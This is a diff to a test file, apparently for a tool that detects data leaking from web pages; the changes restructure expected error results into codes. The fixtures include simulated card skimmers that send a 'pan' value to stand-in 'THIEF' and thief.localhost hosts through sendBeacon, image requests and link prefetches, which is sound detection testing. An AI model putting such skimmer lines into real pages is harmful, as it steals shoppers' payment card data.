@@ -31,9 +31,7 @@ describe('what leaves with the page', () => {
     const watched = await watchPage(browser, {
       skimmer: `new Image().src = 'https://THIEF/hello.gif'; ${onLeaving(`navigator.sendBeacon('https://THIEF/c', pan)`)}`,
     })
-    expect(watched.canary.notSearched).toEqual([
-      { requestId: 'guard 127.0.0.1', reason: 'encrypted traffic that the browser did not report' },
-    ])
+    expect(watched.canary.notSearched).toEqual([{ requestId: 'guard 127.0.0.1', gap: { code: 'encrypted-unreported', values: {} } }])
   })
 
   it('is found in a socket that was opened before and had sent much', async () => {
@@ -57,7 +55,7 @@ describe('a name given early', () => {
         `for (let i = 0; i < 600; i++) { const k = document.createElement('link'); k.rel = 'dns-prefetch'; k.href = '//h' + i + '.shop.localhost'; document.head.append(k); k.remove() }`,
       ),
     })
-    expect(capture.outcome.issues.map(({ detail }) => detail)).toContain('The page gave more names to look up early than are read.')
+    expect(capture.outcome.issues.map(({ cause }) => cause.code)).toContain('names-max')
   })
 
   const link = (rel: string) => `const k = document.createElement('link'); k.rel = '${rel}'; k.href = '//x' + pan + '.thief.localhost/';`
